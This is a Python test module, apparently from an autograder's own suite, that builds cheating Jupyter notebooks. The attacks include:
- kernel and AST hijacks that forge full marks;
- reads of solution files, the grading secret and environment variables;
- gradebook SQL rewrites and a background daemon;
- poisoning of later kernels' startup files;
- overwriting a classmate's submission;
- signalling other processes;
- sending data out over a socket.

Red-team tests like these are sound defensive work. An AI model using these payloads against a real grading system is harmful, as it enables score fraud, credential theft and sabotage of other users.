"""Cheats, as notebooks built in code. Each takes a notebook with every answer wrong and adds its trick.

Most of them give full marks, or somebody else's, where tests run inside the student's own kernel.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from tests.classroom.engine_class import MODULE, answer_cell, cell_of, filled

QUESTIONS = tuple(f"8.{n}" for n in range(1, 9))
WRONG: dict[str, Any] = {
    "8.1": [1.0] * 8,
    "8.2": 1.5,
    "8.3": 3.25,
    "8.4": 4.75,
    "8.5": "maybe",
    "8.6": 47.5,
    "8.7": "likely",
    "8.8": "Paint it.",
}
FULL_MARKS = {"8.1": 8, "8.2": 3, "8.3": 4, "8.4": 6, "8.5": 4, "8.6": 3, "8.7": 4, "8.8": 4}
POISON = "zz_attack_of_the_tests.py"
MIME = "application/vnd.brakecourse.answer+json"


@dataclass(frozen=True)
class Surroundings:
    """What a cheat knows: where the class lies, another student's work, and a port that listens."""

    root: Path
    victim: str
    outside: Path
    port: int


Cheat = Callable[[NotebookNode, Surroundings], None]
CHEATS: dict[str, Cheat] = {}


def cheat(function: Cheat) -> Cheat:
    CHEATS[function.__name__] = function
    return function


def wrong_notebook(handed_out: NotebookNode) -> NotebookNode:
    """An honest notebook whose answers all earn nothing."""
    return filled(handed_out, WRONG)


def graded_cells(notebook: NotebookNode) -> list[tuple[str, NotebookNode]]:
    return [(question, cell_of(notebook, "q" + question.replace(".", "_"))) for question in QUESTIONS]


def first(notebook: NotebookNode, code: str) -> None:
    """Run code of the cheat's own before everything else."""
    notebook.cells.insert(0, new_code_cell(textwrap.dedent(code)))


def tried(code: str) -> str:
    """Code that goes on whatever happens to it."""
    return (
        "try:\n"
        + textwrap.indent(textwrap.dedent(code), "    ")
        + "\nexcept Exception as failed:\n    print(failed)\n"
    )


@cheat
def skip_the_hand_in_cells_by_a_tag(notebook: NotebookNode, _: Surroundings) -> None:
    for _question, cell in graded_cells(notebook):
        cell.metadata["tags"] = ["skip-execution"]


@cheat
def bring_the_points_along_as_saved_outputs(notebook: NotebookNode, _: Surroundings) -> None:
    for question, cell in graded_cells(notebook):
        cell.metadata["tags"] = ["skip-execution"]
        cell.outputs = [
            new_output("execute_result", data={"text/plain": str(FULL_MARKS[question])}, execution_count=1)
        ]


@cheat
def publish_a_result_in_every_cell(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        """
        from IPython import get_ipython
        def publish(*_):
            shell = get_ipython()
            shell.kernel.session.send(
                shell.kernel.iopub_socket, "execute_result",
                {"data": {"text/plain": "8.0"}, "metadata": {}, "execution_count": 1},
                parent=shell.kernel.get_parent(),
            )
        get_ipython().events.register("pre_run_cell", publish)
        """,
    )


@cheat
def rewrite_what_the_kernel_sends(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        f"""
        from IPython import get_ipython
        session = get_ipython().kernel.session
        real = session.send
        def send(stream, kind, content=None, *rest, **more):
            if isinstance(content, dict) and "data" in content:
                content["data"] = {{"text/plain": "8.0", {MIME!r}: {{"question": "8.1", "answer": "right",
                                   "points": 8, "out_of": 8, "status": "right", "problem": None}}}}
            return real(stream, kind, content, *rest, **more)
        session.send = send
        """,
    )


@cheat
def take_the_kernel_over(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        """
        from IPython import get_ipython
        kernel = get_ipython().kernel
        async def do_execute(code, silent=False, *rest, **more):
            kernel.send_response(kernel.iopub_socket, "execute_result",
                                 {"data": {"text/plain": "8.0"}, "metadata": {}, "execution_count": 1})
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        kernel.do_execute = do_execute
        """,
    )


@cheat
def drop_the_hand_in_lines(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        """
        from IPython import get_ipython
        def drop(lines):
            return ["8.0\\n"] if any("hand_in(" in line for line in lines) else lines
        get_ipython().input_transformers_post.append(drop)
        """,
    )


@cheat
def change_the_code_while_it_is_read(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        """
        import ast
        from IPython import get_ipython
        class Change(ast.NodeTransformer):
            def visit_Call(self, node):
                if getattr(node.func, "id", "") == "hand_in":
                    return ast.Constant(8.0)
                return self.generic_visit(node)
        get_ipython().ast_transformers.append(Change())
        """,
    )


@cheat
def hand_in_something_that_equals_everything(notebook: NotebookNode, _: Surroundings) -> None:
    first(
        notebook,
        """
        class Everything(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __abs__(self): return 0.0
            def __le__(self, other): return True
            __hash__ = float.__hash__
        everything = Everything(777.0)
        """,
    )
    for question in ("8.2", "8.3", "8.4", "8.6", "8.7"):
        answer_cell(notebook, question).source += (
            "\n" + answer_cell(notebook, question).source.split(" =")[0] + " = everything"
        )


@cheat
def put_an_own_hand_in_in_its_place(notebook: NotebookNode, _: Surroundings) -> None:
    code = f"""
    import brakecourse.workorder, brakecourse.workorder.desk as desk
    from IPython.display import display
    def forged(question, answer):
        display({{{MIME!r}: {{"question": question, "answer": {{"points": 8, "status": "right"}},
                 "problem": None, "points": 8.0, "mark": 8.0}}, "text/plain": "8.0"}}, raw=True)
        return 8.0
    brakecourse.workorder.hand_in = desk.hand_in = forged
    """
    first(notebook, code)
    answer_cell(notebook, "8.1").source += "\nhand_in = forged"


@cheat
def raise_the_points_and_unlock_the_cells(notebook: NotebookNode, _: Surroundings) -> None:
    for question, cell in graded_cells(notebook):
        cell.metadata["nbgrader"] |= {"points": 1000, "locked": False, "solution": True, "checksum": "0" * 32}
        cell.source = f"{FULL_MARKS[question]}.0"


@cheat
def turn_the_hand_in_cells_into_text(notebook: NotebookNode, _: Surroundings) -> None:
    for _question, cell in graded_cells(notebook):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]


@cheat
def copy_the_hand_in_cells_and_change_the_copies(notebook: NotebookNode, _: Surroundings) -> None:
    for number, (question, cell) in enumerate(graded_cells(notebook)):
        copy = new_code_cell(f"{FULL_MARKS[question]}.0", metadata=cell.metadata.copy(), id=f"copy-{number}")
        notebook.cells.append(copy)


@cheat
def read_the_solutions_and_the_secret(notebook: NotebookNode, where: Surroundings) -> None:
    places = [
        "../../../source", "../../../.secret", "../../../cases",
        f"{where.root}/source", f"{where.root}/.secret",
        f"{where.root}/cases/{MODULE}/{where.victim}.json", f"{where.root}/submitted",
    ]  # fmt: skip
    looks = "\n".join(
        tried(
            f"for path in [Path({place!r}), *Path({place!r}).rglob('*')]:\n    print(path, path.read_text())"
        )
        for place in places
    )
    first(notebook, "from pathlib import Path\nimport os\nprint(os.environ)\n" + looks)


@cheat
def draw_the_case_again(notebook: NotebookNode, where: Surroundings) -> None:
    names = {question: answer_cell(notebook, question).source.split(" =")[0] for question in QUESTIONS}
    lines = "\n".join(f"{name} = case.question({question!r}).expected" for question, name in names.items())
    code = tried(
        "from brakecourse import marking\n"
        f"secret = bytes.fromhex(open({str(where.root / '.secret')!r}).read())\n"
        f"case = marking.draw_sealed_case({MODULE!r}, {where.victim!r}, secret)\n{lines}"
    )
    answer_cell(notebook, "8.8").source += "\n" + code


@cheat
def write_points_into_the_gradebook(notebook: NotebookNode, where: Surroundings) -> None:
    for path in (f"{where.root}/gradebook.db", "../../../gradebook.db"):
        first(notebook, "import sqlite3\n" + tried(
            f"with sqlite3.connect({path!r}) as book:\n"
            "    book.execute('UPDATE grade SET manual_score = 99, needs_manual_grade = 0')\n"
            "    book.execute('CREATE TRIGGER more AFTER UPDATE ON grade '\n"
            "                 'BEGIN UPDATE grade SET manual_score = 99; END')"
        ))  # fmt: skip


@cheat
def leave_a_daemon_that_writes_later(notebook: NotebookNode, where: Surroundings) -> None:
    first(
        notebook,
        f"""
        import os, sqlite3, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(60):
                    time.sleep(0.5)
                    try:
                        open({str(where.outside / "daemon")!r}, "a").write("here")
                        book = sqlite3.connect({str(where.root / "gradebook.db")!r})
                        book.execute("UPDATE grade SET manual_score = 99")
                    except Exception:
                        pass
            os._exit(0)
        """,
    )


@cheat
def poison_the_kernels_that_come_later(notebook: NotebookNode, where: Surroundings) -> None:
    start = "import builtins; builtins.print = lambda *a, **k: None; import os; os._exit(0)"
    first(
        notebook,
        f"""
        import os, sysconfig
        from pathlib import Path
        homes = [Path.home(), Path({str(Path.home())!r}), Path({str(where.outside)!r})]
        places = [home / ".ipython/profile_default/startup" / {POISON!r} for home in homes]
        places += [Path(sysconfig.get_paths()["purelib"]) / {POISON!r}, Path("/tmp") / {POISON!r}]
        for place in places:
            try:
                place.parent.mkdir(parents=True, exist_ok=True)
                place.write_text({start!r})
            except OSError as failed:
                print(failed)
        """,
    )


@cheat
def change_another_students_work(notebook: NotebookNode, where: Surroundings) -> None:
    path = where.root / "submitted" / where.victim / MODULE / f"{MODULE}.ipynb"
    first(notebook, tried(f"open({str(path)!r}, 'w').write('spoiled')"))


@cheat
def write_into_the_graders_memory(notebook: NotebookNode, _: Surroundings) -> None:
    first(notebook, "import os, signal\n" + tried(
        "for number in [os.getppid(), *range(1, 400)]:\n"
        "    try:\n"
        "        open(f'/proc/{number}/mem', 'wb')\n"
        "        print('opened', number)\n"
        "    except OSError:\n"
        "        pass\n"
        "    if number not in (os.getpid(), 0):\n"
        "        try:\n"
        "            os.kill(number, signal.SIGSTOP)\n"
        "        except OSError:\n"
        "            pass"
    ))  # fmt: skip


@cheat
def send_it_out(notebook: NotebookNode, where: Surroundings) -> None:
    first(notebook, "import socket\n" + tried(
        f"socket.create_connection(('127.0.0.1', {where.port}), 3).sendall(b'here I am')"
    ))  # fmt: skip


@cheat
def claim_to_be_somebody_else(notebook: NotebookNode, where: Surroundings) -> None:
    notebook.metadata |= {"student": where.victim, "brakecourse": {"student": where.victim, "healed": []}}
    first(
        notebook,
        f"""
        import json, os
        os.environ.update(USER={where.victim!r}, STUDENT={where.victim!r})
        try:
            order = json.load(open("work_order.json"))
            order["student"] = {where.victim!r}
            for question in order["questions"]:
                question["points"] = 0
            json.dump(order, open("work_order.json", "w"))
        except OSError as failed:
            print(failed)
        """,
    )
